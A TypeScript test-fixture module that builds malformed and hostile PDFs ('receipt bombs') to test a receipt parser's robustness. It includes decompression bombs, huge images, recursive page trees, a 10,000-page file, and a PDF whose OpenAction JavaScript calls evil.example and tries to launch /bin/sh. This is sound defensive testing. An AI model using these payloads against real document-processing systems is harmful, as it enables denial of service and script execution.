import { deflateSync } from 'node:zlib';
import type { Scale } from './gate.ts';

/** A file that is accepted as a receipt, and then harms the program that reads it. */
export interface ReceiptBomb {
  name: string;
  content: Buffer;
  /** What must not be in what was read. */
  never?: RegExp;
}

const stream = (facts: string, body: Buffer) =>
  Buffer.concat([
    Buffer.from(`<<${facts}/Length ${body.length}>>\nstream\n`),
    body,
    Buffer.from('\nendstream'),
  ]);
const plain = (text: string) => Buffer.from(text, 'latin1');

/** A PDF of these objects; the first is the root. Without `xref`, as after a crash. */
function pdf(objects: Buffer[], { trailer = '', hasIndex = true } = {}): Buffer {
  const parts: Buffer[] = [plain('%PDF-1.7\n')];
  const places: number[] = [];
  let length = parts[0]?.length ?? 0;
  const push = (part: Buffer) => {
    parts.push(part);
    length += part.length;
  };
  for (const [index, object] of objects.entries()) {
    places.push(length);
    push(Buffer.concat([plain(`${index + 1} 0 obj\n`), object, plain('\nendobj\n')]));
  }
  const size = objects.length + 1;
  const entries = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  const index = hasIndex ? `xref\n0 ${size}\n0000000000 65535 f \n${entries}` : '';
  const start = length;
  push(
    plain(`${index}trailer\n<</Size ${size}/Root 1 0 R${trailer}>>\nstartxref\n${start}\n%%EOF\n`),
  );
  return Buffer.concat(parts);
}

interface PageOptions {
  content: Buffer;
  contentFacts?: string;
  box?: string;
  /** What the page can use beside its font, from the sixth object on. */
  resources?: string;
  more?: Buffer[];
  root?: string;
}

function onePage({
  content,
  contentFacts = '',
  box = '0 0 400 600',
  resources = '',
  more = [],
  root = '',
}: PageOptions): Buffer {
  return pdf([
    plain(`<</Type/Catalog/Pages 2 0 R${root}>>`),
    plain('<</Type/Pages/Kids[3 0 R]/Count 1>>'),
    plain(
      `<</Type/Page/Parent 2 0 R/MediaBox[${box}]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>${resources}>>>>`,
    ),
    stream(contentFacts, content),
    plain('<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>'),
    ...more,
  ]);
}

const textAt = (y: number, text: string) => `BT /F 8 Tf 30 ${y} Td (${text}) Tj ET`;
const manyLines = (count: number) =>
  plain(Array.from({ length: count }, (_, n) => textAt(9 * n, `Item ${n} 1.00`)).join('\n'));
const deflated = (text: string, times: number) => deflateSync(plain(text.repeat(times)));

function manyPages(count: number): Buffer {
  const kids = Array.from({ length: count }, (_, n) => `${n + 4} 0 R`).join(' ');
  const page = plain('<</Type/Page/Parent 2 0 R/MediaBox[0 0 400 600]/Contents 3 0 R>>');
  return pdf([
    plain('<</Type/Catalog/Pages 2 0 R>>'),
    plain(`<</Type/Pages/Kids[${kids}]/Count ${count}>>`),
    stream('', plain('0 0 400 600 re f')),
    ...Array.from({ length: count }, () => page),
  ]);
}

const SCRIPT = "app.launchURL('https://evil.example');this.exportDataObject({cName:'canary-4711'})";

/** A picture in a PDF that says it is that large. */
const picturePage = (side: number, body: Buffer) =>
  onePage({
    content: plain('q 400 0 0 600 0 0 cm /P Do Q'),
    resources: '/XObject<</P 6 0 R>>',
    more: [
      stream(
        `/Type/XObject/Subtype/Image/Width ${side}/Height ${side}/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/FlateDecode`,
        body,
      ),
    ],
  });

export function makeReceiptBombs(scale: Scale): ReceiptBomb[] {
  const megabytes = scale === 'full' ? 500 : 50;
  const lines = onePage({ content: manyLines(20_000), box: '0 0 400 180000' });
  const receipt = onePage({ content: plain(textAt(500, 'TOTAL 12.00')) });
  return [
    { name: 'PDF with 20,000 lines of text', content: lines },
    {
      name: 'PDF with 20,000 texts in one place',
      content: onePage({ content: plain(`${textAt(300, 'TOTAL 1.00')}\n`.repeat(20_000)) }),
    },
    {
      name: 'PDF with a line of a million letters',
      content: onePage({ content: plain(textAt(300, `TOTAL ${'9'.repeat(1_000_000)}.00`)) }),
    },
    {
      name: 'PDF with scripts',
      content: onePage({
        content: plain(textAt(500, 'TOTAL 12.00 paid in cash, thank you')),
        root: `/OpenAction<</S/JavaScript/JS(${SCRIPT.replaceAll(/[()]/g, '\\$&')})>>/AA<</WC<</S/Launch/F(/bin/sh)>>>>`,
      }),
      never: /canary-4711|root:/,
    },
    {
      name: 'PDF without an index',
      content: pdf([plain('<</Type/Catalog>>')], { hasIndex: false }),
    },
    { name: 'PDF that is cut off', content: receipt.subarray(0, Math.floor(receipt.length / 2)) },
    { name: 'PDF of noise', content: Buffer.concat([plain('%PDF-1.7\n'), noise(100_000)]) },
    {
      name: 'PDF whose pages contain themselves',
      content: pdf([
        plain('<</Type/Catalog/Pages 2 0 R>>'),
        plain('<</Type/Pages/Kids[2 0 R 2 0 R]/Count 1000000>>'),
      ]),
    },
    {
      name: 'PDF whose picture contains itself',
      content: onePage({
        content: plain('/X Do'),
        resources: '/XObject<</X 6 0 R>>',
        more: [
          stream(
            '/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>',
            plain('/X Do /X Do'),
          ),
        ],
      }),
    },
    { name: 'PDF of 10,000 pages', content: manyPages(10_000) },
    {
      name: `PDF whose page unpacks to ${megabytes} MB`,
      content: onePage({
        content: deflated('0 0 m 9 9 l S\n'.padEnd(100), megabytes * 10_000),
        contentFacts: '/Filter/FlateDecode',
      }),
    },
    {
      name: 'PDF page as large as a house',
      content: onePage({ content: plain('0 0 9 9 re f'), box: '0 0 2000000 2000000' }),
    },
    {
      name: 'PDF picture of 3,600 megapixels',
      content: picturePage(60_000, deflated('\0'.repeat(1_000), 100)),
    },
    {
      name: 'PDF picture of 49 megapixels',
      content: picturePage(7_000, deflated('\0'.repeat(7_000), 7_000)),
    },
    {
      name: 'PDF that wants a password',
      content: pdf(
        [plain('<</Type/Catalog/Pages 2 0 R>>'), plain('<</Type/Pages/Kids[]/Count 0>>')],
        {
          trailer: '/Encrypt<</Filter/Standard/V 2/R 3/O(x)/U(y)/P -4>>/ID[(a)(b)]',
        },
      ),
    },
  ];
}

/** Always the same. */
function noise(length: number): Buffer {
  let state = 1;
  return Buffer.from(
    Array.from({ length }, () => {
      state = (state * 1_103_515_245 + 12_345) % 2 ** 31;
      return state >> 16;
    }),
  );
}
